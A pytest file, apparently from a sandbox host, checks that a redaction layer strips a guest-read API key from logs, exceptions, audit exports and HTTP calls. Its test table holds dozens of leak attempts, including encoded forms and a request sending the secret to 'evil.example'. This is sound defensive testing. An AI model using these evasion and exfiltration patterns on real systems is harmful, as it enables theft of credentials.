"""A secret that a guest has read stays out of all that a run leaves: its log, its error, its audit, its writes."""

from __future__ import annotations

import base64
import io
import json

import pytest

from sandbox_host.redaction import Redactor

TOP = """
import base64
import json as j
from urllib.parse import quote
from guest_sdk import Customer, Http, Log, Secrets, api

class Told(Exception):
    def __init__(self, secret):
        super().__init__({"secret": secret}, [secret])
        self.secret = secret
    def __str__(self): return f"told {self.secret!r:>60}"

def secret(): return Secrets.get("api_key")
def deeper(s): raise ValueError(s)
"""

LEAKS = {
    "printed": "print(secret())",
    "printed_in_parts": "print('key', secret(), sep=':', end='!')",
    "printed_over_lines": "print('a\\n' + secret() + '\\nb')",
    "logged": "Log.info(secret())",
    "logged_data": "Log.info('x', {'a': [secret()], secret(): 1})",
    "logged_exception": "Log.info('x', {'error': ValueError(secret())})",
    "logged_with_its_cause": "try:\n    try: deeper(secret())\n"
    "    except ValueError as e: raise KeyError('outer') from e\n"
    "except KeyError as e: Log.error('x', e)",
    "base64": "Log.info(base64.b64encode(secret().encode()).decode())",
    "base64_inside": "Log.info(base64.b64encode(b'user:' + secret().encode()).decode())",
    "urlsafe": "Log.info(base64.urlsafe_b64encode(f'user:{secret()}!'.encode()).decode())",
    "quoted": "Log.info(quote(secret()) + quote(secret(), safe=''))",
    "json_text": "Log.info(j.dumps({'a': secret()}))",
    "escaped": "Log.info(''.join(f'\\\\u{ord(c):04x}' for c in secret()))",
    "percent": "Log.info(''.join(f'%{ord(c):02x}' for c in secret()))",
    "f_string": "s = secret()\nLog.info(f'{s=}')",
    "represented": "print([secret()], {secret()}, (secret(),))",
    "bytes": "print(secret().encode())",
    "cut": "Log.info(secret()[:-3])",
    "raised": "raise ValueError(secret())",
    "raised_args": "raise ValueError({'key': secret()}, [secret()])",
    "raised_of_its_own": "raise Told(secret())",
    "raised_from": "try: deeper(secret())\nexcept ValueError as e: raise KeyError('outer') from e",
    "raised_while": "try: deeper(secret())\nexcept ValueError: raise KeyError('outer')",
    "raised_with_notes": "e = ValueError('x')\ne.add_note(secret())\nraise e",
    "raised_key": "return {}[secret()]",
    "raised_attribute": "return getattr(1, 'x' + secret())",
    "raised_name": "class E(Exception): pass\nE.__name__\nraise E(secret())",
    "raised_number": "return int(secret())",
    "raised_format": "return '{:' .format(1) if not secret() else ('{' + secret() + '}').format()",
    "raised_json": "return j.loads(secret())",
    "raised_decoded": "return (secret().encode() + b'\\xff').decode()",
    "exit": "raise SystemExit(secret())",
    "freed": "s = secret()\ndef g():\n    try: yield\n    finally: raise ValueError(s)\nx = g()\nnext(x)\nx = None",
    "url": "try: Http.get('https:/' + '/evil.example/' + secret())\nexcept Exception as e: Log.info(str(e))",
    "allowed_url": "Http.get('https://api.acme.example/' + secret())",
    "query": "Http.get('https://api.acme.example/x?key=' + secret())",
    "not_a_url": "Http.get(secret())",
    "entity": "Customer.create({'name': secret()})",
    "wrong_entity": "Customer.create({secret(): 1})",
    "entity_id": "Customer.get(secret())",
    "secret_name": "Secrets.get(secret())",
    "header": "return api.json(1, headers={'x': secret() + '\\n'})",
    "unreturnable": "return {secret(): {1}}",
    "argument": "Log.info('x', {secret(): {1}})",
}  # fmt: skip


@pytest.fixture(scope="module")
def guest(ground):
    return ground.routes(LEAKS, TOP)


@pytest.mark.parametrize("name", LEAKS)
def test_no_trace_of_it_is_left(ground, guest, secret, name):
    report = ground.attack(guest, name)
    shown = report.model_dump(exclude={"response"})
    out = io.BytesIO()
    ground.state.audit.export(out, "hostile")
    kept = json.dumps(shown) + out.getvalue().decode()
    for form in (secret, secret[:-4], secret.encode().hex(), base64.b64encode(secret.encode()).decode()):
        assert form not in kept, kept[kept.find(form) - 200 :][:500]


def test_without_redaction_it_would_be_in_all_of_them(grounds, secret, monkeypatch):
    monkeypatch.setattr(Redactor, "learn", lambda self, name, value: None)
    names = ("printed", "raised", "allowed_url", "entity")
    guest = grounds().routes({name: LEAKS[name] for name in names}, TOP)
    for name in names:
        assert secret in guest(name).model_dump_json(exclude={"response"}), name
